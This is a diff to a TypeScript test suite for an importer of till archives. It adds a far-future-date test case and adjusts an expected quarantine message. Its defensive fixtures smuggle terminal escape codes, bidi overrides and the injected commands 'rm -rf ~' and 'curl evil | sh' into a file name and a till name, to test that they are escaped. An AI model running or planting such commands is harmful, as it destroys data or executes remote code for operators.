@@ -448,6 +448,12 @@ const CASES: HostileCase[] = [
     shows: "created is '2026-02-30T23:00:05+01:00', expected a real date and time",
   },
   {
+    what: "a created date in 2999",
+    zip: () => tillZipWith({ created: "2999-11-27T23:00:05+01:00" }),
+    code: "E_ARCHIVE_CLOCK",
+    shows: "created at 2999-11-27T23:00:05+01:00, more than a day after the central's time",
+  },
+  {
     what: "a manifest listing a file the archive lacks",
     zip: () => tillZip(entriesOf(V2), { ...V2, "clotures.csv": "date;total_ttc\n" }),
     code: "E_MANIFEST_MISMATCH",
@@ -729,7 +735,7 @@ describe("the reason beside a quarantined archive", () => {
     expect(reason.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\u2028\u2029\u202a-\u202e]/u);
     expect(lines[3]).toBe("received as: D01\\u001B[31m\\u000Awhat to do: rm -rf ~\\u2028.zip");
     expect(lines[8]).toBe(
-      "reason: the archive comes from till 'Z99' ('Magasin\\u001B]0;pwn\\u0007\\u000D\\u000Awhat to do: curl evil | sh\\u202E'), which is not registered",
+      "reason: the archive comes from till 'Z99' (Magasin\\u001B]0;pwn\\u0007\\u000D\\u000Awhat to do: curl evil | sh\\u202E), which is not registered",
     );
   });
 });
